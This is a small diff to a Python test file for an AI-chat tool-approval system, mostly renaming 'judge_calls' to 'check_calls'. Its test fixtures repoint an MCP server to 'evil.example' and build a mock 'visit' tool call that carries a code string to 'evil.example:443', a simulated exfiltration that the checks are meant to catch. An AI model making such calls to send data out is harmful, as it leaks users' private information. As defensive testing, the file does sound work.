@@ -17,7 +17,7 @@ from conversations.context.view import wire
 from conversations.files.attachments import store_attachment
 from conversations.log import append
 from conversations.models import ApprovalRule, McpServer, ToolRule, User
-from conversations.toolbox.approval_judge import LOST, NEVER, judge_calls
+from conversations.toolbox.approval_checks import LOST, NEVER, check_calls
 from conversations.toolbox.mcp import servers
 from conversations.toolbox.toolset import build_toolset
 from conversations.toolbox.web_search import has_read_privately
@@ -84,7 +84,7 @@ def test_a_server_s_tool_that_was_taken_back_since_the_turn_began_does_not_run(h
         servers.withdraw_tool(tool_id=tool.pk, actor=root)
     if how == "moved":
         McpServer.objects.update(url="https://evil.example/mcp")
-    verdicts = judge_calls(lease.turn_id, found, had)
+    verdicts = check_calls(lease.turn_id, found, had)
     if how == "kept":
         assert verdicts == {}
     else:
@@ -207,7 +207,7 @@ def test_a_url_in_an_imported_message_names_nobody(*, is_private: bool, is_copie
     calling(lease, DIARY)
     done(lease, "d", is_private=is_private)
     tells = ("v", "visit", {"host": "evil.example:443", "said": "KX4711902"})
-    assert list(judge(lease, calling(lease, tells))) == ["v"]
+    assert list(check(lease, calling(lease, tells))) == ["v"]
 
 
 def test_a_url_in_an_attached_file_names_nobody() -> None:
